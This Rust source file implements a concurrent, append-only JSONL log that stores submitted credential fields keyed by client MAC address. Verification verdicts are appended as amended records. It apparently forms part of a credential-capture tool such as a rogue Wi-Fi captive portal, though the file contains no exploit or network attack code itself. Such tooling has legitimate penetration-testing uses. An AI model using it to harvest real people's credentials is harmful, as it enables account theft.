//! Durable, append-only credential log.
//!
//! Concurrent submissions are serialized behind one lock covering both the
//! sequence counter and the file append, so records are totally ordered by
//! arrival and lines are never interleaved or partial. Verification
//! verdicts are appended as amended records carrying the same `seq`; the
//! original capture line is never rewritten.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use chrono::Utc;
use tokio::fs::{File, OpenOptions};
use tokio::io::AsyncWriteExt;
use tokio::sync::{broadcast, Mutex};
use tracing::debug;

use crate::error::CaptureWriteError;
use crate::types::{CapturedCredential, VerificationStatus};

pub const CREDENTIALS_FILE: &str = "credentials.jsonl";

struct LogInner {
    file: File,
    records: Vec<CapturedCredential>,
    next_seq: u64,
}

/// Session-lifetime credential log with a broadcast event per new record.
pub struct CredentialLog {
    path: PathBuf,
    inner: Mutex<LogInner>,
    events: broadcast::Sender<CapturedCredential>,
}

impl CredentialLog {
    /// Open (or create) the log under `capture_dir`.
    pub async fn open(capture_dir: &Path) -> Result<Self, CaptureWriteError> {
        tokio::fs::create_dir_all(capture_dir).await?;
        let path = capture_dir.join(CREDENTIALS_FILE);
        let file = OpenOptions::new()
            .create(true)
            .append(true)
            .open(&path)
            .await?;
        let (events, _) = broadcast::channel(64);
        Ok(Self {
            path,
            inner: Mutex::new(LogInner {
                file,
                records: Vec::new(),
                next_seq: 0,
            }),
            events,
        })
    }

    pub fn path(&self) -> &Path {
        &self.path
    }

    /// Append one normalized submission. Atomic with respect to concurrent
    /// appends: sequence assignment, the file write, and the in-memory
    /// insert all happen under the same lock.
    pub async fn append(
        &self,
        client_mac: String,
        fields: BTreeMap<String, String>,
    ) -> Result<CapturedCredential, CaptureWriteError> {
        let record = {
            let mut inner = self.inner.lock().await;
            let record = CapturedCredential {
                seq: inner.next_seq,
                timestamp: Utc::now(),
                client_mac,
                fields,
                verification: VerificationStatus::Pending,
            };
            inner.next_seq += 1;

            let mut line = serde_json::to_string(&record)?;
            line.push('\n');
            inner.file.write_all(line.as_bytes()).await?;
            inner.file.flush().await?;

            inner.records.push(record.clone());
            record
        };

        debug!(seq = record.seq, client = %record.client_mac, "credential captured");
        let _ = self.events.send(record.clone());
        Ok(record)
    }

    /// Update the verification verdict for a record. The transition away
    /// from `Pending` happens exactly once; later calls are ignored.
    /// Returns whether the update took effect.
    pub async fn set_verification(
        &self,
        seq: u64,
        status: VerificationStatus,
    ) -> Result<bool, CaptureWriteError> {
        let mut inner = self.inner.lock().await;
        let Some(record) = inner.records.iter_mut().find(|r| r.seq == seq) else {
            return Ok(false);
        };
        if record.verification != VerificationStatus::Pending {
            return Ok(false);
        }
        record.verification = status;
        let amended = record.clone();

        let mut line = serde_json::to_string(&amended)?;
        line.push('\n');
        inner.file.write_all(line.as_bytes()).await?;
        inner.file.flush().await?;
        Ok(true)
    }

    /// All records in arrival order, with their latest verification status.
    pub async fn records(&self) -> Vec<CapturedCredential> {
        self.inner.lock().await.records.clone()
    }

    pub async fn len(&self) -> usize {
        self.inner.lock().await.records.len()
    }

    /// Subscribe to new-record events (consumed by the verifier).
    pub fn subscribe(&self) -> broadcast::Receiver<CapturedCredential> {
        self.events.subscribe()
    }
}

/// Read a credential log file back, merging amended records by `seq`
/// (latest status wins). Used for post-mortem listing.
pub fn load_records(path: &Path) -> Result<Vec<CapturedCredential>, CaptureWriteError> {
    let contents = match std::fs::read_to_string(path) {
        Ok(contents) => contents,
        Err(err) if err.kind() == std::io::ErrorKind::NotFound => return Ok(Vec::new()),
        Err(err) => return Err(err.into()),
    };

    let mut by_seq: BTreeMap<u64, CapturedCredential> = BTreeMap::new();
    for line in contents.lines().filter(|l| !l.trim().is_empty()) {
        let record: CapturedCredential = serde_json::from_str(line)?;
        by_seq.insert(record.seq, record);
    }
    Ok(by_seq.into_values().collect())
}
